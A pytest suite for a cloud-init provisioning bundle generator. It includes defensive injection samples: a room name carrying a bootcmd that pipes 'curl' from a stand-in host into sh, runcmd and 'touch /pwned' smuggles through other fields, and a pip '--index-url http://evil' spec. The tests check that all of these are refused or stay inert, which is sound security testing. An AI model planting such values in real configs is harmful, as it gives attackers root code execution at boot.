"""The provisioning bundle: cloud-init accepts its user-data, and the agent accepts its config."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from listenpost.agent.config import parse_agent_config
from listenpost.collector.provision import BadLabel, build_bundle, check_label, write_bundle
from listenpost.core.errors import ConfigError
from tests.conftest import require_tool


@pytest.fixture
def cloud_init() -> str:
    """The cloud-init command, looked up once: skips (or fails, in CI) without it."""
    return require_tool("cloud-init")


def _bundle(tmp_path: Path) -> Path:
    out = tmp_path / "card"
    write_bundle(
        out,
        board="u4-b",
        room="U4 Changing Hall",
        floor="upper",
        code="7KQ2-M9XD-4TPA-WZ3R",
        collector_url="http://10.20.0.2:8470/",
        expires_at=1_800_259_200.0,
    )
    return out


def _schema(cloud_init: str, path: Path) -> subprocess.CompletedProcess[str]:
    # docs/references.md §9: `cloud-init schema -c FILE` (cloud-init 22.4) exits 0 for a valid cloud-config, 1 otherwise.
    return subprocess.run([cloud_init, "schema", "-c", str(path)], capture_output=True, text=True, timeout=60)


def test_user_data_passes_cloud_init_schema(tmp_path, cloud_init):
    out = _bundle(tmp_path)
    r = _schema(cloud_init, out / "user-data")
    assert r.returncode == 0, r.stderr
    assert "Valid cloud-config" in r.stdout


def test_a_broken_user_data_fails_the_same_check(tmp_path, cloud_init):
    out = _bundle(tmp_path)
    doc = yaml.safe_load((out / "user-data").read_text())
    doc["runcmd"] = "not-a-list"
    doc["write_files"][0]["permissions"] = 644
    bad = tmp_path / "bad-data"
    bad.write_text("#cloud-config\n" + yaml.safe_dump(doc))
    r = _schema(cloud_init, bad)
    assert r.returncode == 1
    assert "runcmd" in r.stderr and "permissions" in r.stderr


def test_bundle_contents(tmp_path):
    out = _bundle(tmp_path)
    assert sorted(p.name for p in out.iterdir()) == [
        "README.txt",
        "agent.yaml",
        "meta-data",
        "network-config",
        "user-data",
    ]
    assert all(p.stat().st_mode & 0o077 == 0 for p in out.iterdir())  # the code is on the card: owner only
    doc = yaml.safe_load((out / "user-data").read_text())
    assert doc["hostname"] == "u4-b"
    files = {f["path"]: f for f in doc["write_files"]}
    # The enroll unit's inputs: the URL in its environment file, the code root-only for its credential.
    assert files["/etc/listenpost/enroll.env"]["content"] == "LISTENPOST_COLLECTOR=http://10.20.0.2:8470\n"
    code = files["/etc/listenpost/enroll-code"]
    assert code["content"] == "7KQ2-M9XD-4TPA-WZ3R\n" and code["permissions"] == "0600"
    assert not any("7KQ2-M9XD-4TPA-WZ3R" in str(c) for c in doc["runcmd"])  # never in a command line
    # First boot only starts enrollment, without waiting; the enroll unit starts the agent.
    assert doc["runcmd"][-1] == ["systemctl", "enable", "--now", "--no-block", "listenpost-enroll.service"]
    assert not any("listenpost-agent.service" in c for c in doc["runcmd"])
    unit = files["/etc/systemd/system/listenpost-agent.service"]["content"]
    assert "ExecStart=/opt/listenpost/bin/listenpost agent run" in unit
    enroll = files["/etc/systemd/system/listenpost-enroll.service"]["content"]
    assert "ExecStart=/opt/listenpost/bin/listenpost agent enroll" in enroll
    assert "u listenpost" in files["/etc/sysusers.d/listenpost.conf"]["content"]
    assert ["systemd-sysusers"] in doc["runcmd"]
    meta = yaml.safe_load((out / "meta-data").read_text())
    assert meta["local-hostname"] == "u4-b" and meta["instance-id"].startswith("listenpost-u4-b-")
    cfg = parse_agent_config(yaml.safe_load((out / "agent.yaml").read_text()), origin="agent.yaml")
    assert (cfg.board, cfg.collector.url) == ("u4-b", "http://10.20.0.2:8470")


def test_two_bundles_for_one_board_get_distinct_instance_ids():
    a = build_bundle(
        board="g0-a", room="G0 Foyer", floor=None, code="A", collector_url="http://c:8470", expires_at=0
    )
    b = build_bundle(
        board="g0-a", room="G0 Foyer", floor=None, code="B", collector_url="http://c:8470", expires_at=0
    )
    # A re-flashed card must look new to cloud-init, or it skips the first-boot modules.
    assert yaml.safe_load(a["meta-data"])["instance-id"] != yaml.safe_load(b["meta-data"])["instance-id"]


def test_package_spec_reaches_pip_and_the_user_data_stays_valid(tmp_path, cloud_init):
    """--package goes to pip as one argument; the bundle says which and when the code expires, in UTC."""
    out = tmp_path / "card"
    wheel = "https://files.brackenford.example/listenpost-0.1.0-py3-none-any.whl"
    write_bundle(
        out,
        board="g0-a",
        room="G0 Foyer",
        floor=None,
        code="7KQ2-M9XD-4TPA-WZ3R",
        collector_url="http://10.20.0.2:8470",
        expires_at=1_800_259_200.0,
        package=wheel,
    )
    doc = yaml.safe_load((out / "user-data").read_text())
    assert ["/opt/listenpost/bin/pip", "install", "--upgrade", wheel] in doc["runcmd"]
    # 1 800 259 200 s after the Unix epoch = 20 836 days + 8 h = 2027-01-18 08:00 UTC (checked with GNU
    # `date -u -d @1800259200`, independent of the code under test).
    readme = (out / "README.txt").read_text()
    assert wheel in readme and "expires 2027-01-18 08:00 UTC" in readme
    assert _schema(cloud_init, out / "user-data").returncode == 0


def test_default_package_is_this_version_and_a_spaced_one_is_refused():
    from importlib.metadata import version

    from listenpost.collector.provision import package_spec
    from listenpost.core.errors import ConfigError

    assert package_spec(None) == f"listenpost=={version('listenpost')}"
    assert package_spec("  listenpost>=0.1 ") == "listenpost>=0.1"
    with pytest.raises(ConfigError, match="--package"):
        package_spec("listenpost --index-url http://evil")


# A room name that, written unescaped into a cloud-config, adds a top-level key run as root at boot.
INJECTED = "G0 Foyer\nbootcmd: [[sh, -c, 'curl -s http://203.0.113.9/x | sh']]\n#"


@pytest.mark.parametrize(
    "value", [INJECTED, "G0\rFoyer", "G0\x00", "a\x1b[2J", "a\u2028b", "a\u202eb"], ids=repr
)
def test_a_name_with_a_control_character_is_refused_naming_the_field(value):
    with pytest.raises(BadLabel, match="^room: must not contain control characters") as e:
        check_label("room", value)
    assert e.value.field == "room"
    assert check_label("room", "  U4 Changing Hall \u00e9 ") == "U4 Changing Hall \u00e9"


def test_hostile_values_that_reach_the_writer_stay_values(tmp_path, cloud_init):
    """
    Even a value no check stopped cannot change the user-data's structure: it parses to exactly the
    keys of a benign bundle, with the value intact where it belongs, and cloud-init accepts it.
    """
    benign = yaml.safe_load(
        build_bundle(
            board="g0-a", room="G0", floor=None, code="C", collector_url="http://c:8470", expires_at=0
        )["user-data"]
    )
    board = "g0-a\nbootcmd: [[touch, /pwned-board]]"
    out = tmp_path / "card"
    # The URL and the code go into one-line files on the card: a line break there is refused by name.
    for field, bad in (
        ("code", {"code": "7KQ2\n  - [touch, /pwned-code]\n#"}),
        ("collector URL", {"collector_url": "http://c:8470/\nruncmd: [[touch, /pwned-url]]"}),
    ):
        kwargs = {"code": "C", "collector_url": "http://c:8470", **bad}
        with pytest.raises(ConfigError, match=f"^{field}: "):
            write_bundle(out, board="g0-a", room="G0", floor=None, expires_at=0, **kwargs)
    write_bundle(
        out,
        board=board,
        room=INJECTED,
        floor="up\r\nbootcmd: [x]",
        code="7KQ2-M9XD",
        collector_url="http://c:8470",
        expires_at=0,
    )
    text = (out / "user-data").read_text()
    assert text.startswith("#cloud-config\n")
    doc = yaml.safe_load(text)
    assert list(doc) == list(benign)  # no key added, none lost
    assert doc["hostname"] == board
    assert len(doc["runcmd"]) == len(benign["runcmd"])
    assert list(yaml.safe_load((out / "agent.yaml").read_text())) == [
        "board",
        "state_dir",
        "collector",
        "source",
    ]
    assert list(yaml.safe_load((out / "meta-data").read_text())) == ["instance-id", "local-hostname"]
    r = _schema(cloud_init, out / "user-data")
    assert r.returncode == 0, r.stderr


def _net_convert(cloud_init: str, path: Path, out: Path, kind: str) -> subprocess.CompletedProcess[str]:
    # cloud-init 22.4's `schema` validates cloud-config only (a network-config schema type came later);
    # `cloud-init devel net-convert` reads a network config through cloud-init's own parser and renders it.
    return subprocess.run(
        [cloud_init, "devel", "net-convert", "-p", str(path), "-k", "yaml", "-D", "debian", "-O", kind]
        + ["-d", str(out)],
        capture_output=True,
        text=True,
        timeout=60,
    )


def test_the_default_network_config_is_wired_dhcp_and_cloud_init_renders_it(tmp_path, cloud_init):
    out = _bundle(tmp_path)
    doc = yaml.safe_load((out / "network-config").read_text())
    assert doc == {"network": {"version": 2, "ethernets": {"eth0": {"dhcp4": True, "dhcp6": True}}}}
    r = _net_convert(cloud_init, out / "network-config", tmp_path / "root", "networkd")
    assert r.returncode == 0, r.stderr
    rendered = (tmp_path / "root/etc/systemd/network/10-cloud-init-eth0.network").read_text()
    assert "Name=eth0" in rendered and "DHCP=" in rendered


def test_a_wifi_bundle_carries_ssid_passphrase_and_country(tmp_path, cloud_init):
    from listenpost.collector.provision import Network

    out = tmp_path / "card"
    write_bundle(
        out,
        board="g2-a",
        room="G2 Sound Lab",
        floor=None,
        code="7KQ2-M9XD-4TPA-WZ3R",
        collector_url="http://10.20.0.2:8470",
        expires_at=0,
        network=Network("Brackenford Staff", "tall-lighthouse-17", "GB"),
    )
    assert (out / "network-config").stat().st_mode & 0o077 == 0  # it holds the passphrase
    r = _net_convert(cloud_init, out / "network-config", tmp_path / "root", "netplan")
    assert r.returncode == 0, r.stderr
    plan = yaml.safe_load((tmp_path / "root/etc/netplan/50-cloud-init.yaml").read_text())
    wlan = plan["network"]["wifis"]["wlan0"]
    assert wlan["access-points"] == {"Brackenford Staff": {"password": "tall-lighthouse-17"}}
    assert wlan["regulatory-domain"] == "GB" and wlan["dhcp4"] is True
    assert plan["network"]["ethernets"]["eth0"]["optional"] is True
    assert _schema(cloud_init, out / "user-data").returncode == 0


def test_a_broken_network_config_fails_the_same_check(tmp_path, cloud_init):
    """Anti-vacuity: the check above refuses a network config cloud-init cannot read."""
    bad = tmp_path / "network-config"
    bad.write_text(yaml.safe_dump({"network": {"version": 3, "ethernets": {}}}))
    assert _net_convert(cloud_init, bad, tmp_path / "root", "networkd").returncode != 0


@pytest.mark.parametrize(
    ("net", "option"),
    [
        (("Staff", None, None), "--wifi-passphrase-file"),
        (("Staff", "short", None), "--wifi-passphrase-file"),
        (("Staff", "x" * 64, None), "--wifi-passphrase-file"),
        (("Staff", "pass\tword1", None), "--wifi-passphrase-file"),
        (("S" * 33, "long enough", None), "--wifi-ssid"),
        (("Staff\n", "long enough", None), "--wifi-ssid"),
        (("Staff", "long enough", "gb"), "--wifi-country"),
        ((None, "long enough", None), "--wifi-ssid"),
    ],
)
def test_bad_wifi_settings_are_refused_naming_the_option(net, option):
    from listenpost.collector.provision import Network, check_network

    with pytest.raises(ConfigError, match=f"^{option}: ") as e:
        check_network(Network(*net))
    if net[1]:
        assert net[1] not in str(e.value)  # the passphrase is never echoed
    check_network(Network("Staff", "a" * 63))
    check_network(Network("Staff", "0123456789abcdef" * 4))  # a raw 256-bit PSK


def test_first_boot_waits_a_bounded_time_for_the_clock_before_apt_and_pip(tmp_path):
    doc = yaml.safe_load((_bundle(tmp_path) / "user-data").read_text())
    assert "package_update" not in doc and "packages" not in doc  # apt would run before the clock is set
    assert doc["hostname"] == "u4-b" and doc["manage_etc_hosts"] is True
    cmds = [" ".join(c) for c in doc["runcmd"]]
    wait = next(i for i, c in enumerate(cmds) if "systemd-time-wait-sync" in c)
    assert "timeout 180 " in cmds[wait] and "||" in cmds[wait]  # bounded, and not fatal
    apt = next(i for i, c in enumerate(cmds) if "apt-get install" in c)
    pip = next(i for i, c in enumerate(cmds) if "/opt/listenpost/bin/pip" in c)
    assert wait < apt < pip


def test_by_default_the_agent_comes_from_the_collectors_wheelhouse_only(tmp_path):
    from importlib.metadata import version

    doc = yaml.safe_load((_bundle(tmp_path) / "user-data").read_text())
    pip = next(c for c in doc["runcmd"] if c[0] == "/opt/listenpost/bin/pip")
    assert pip == [
        "/opt/listenpost/bin/pip",
        "install",
        "--no-index",
        "--find-links",
        "http://10.20.0.2:8470/wheels/",
        "--trusted-host",
        "10.20.0.2",
        f"listenpost=={version('listenpost')}",
    ]
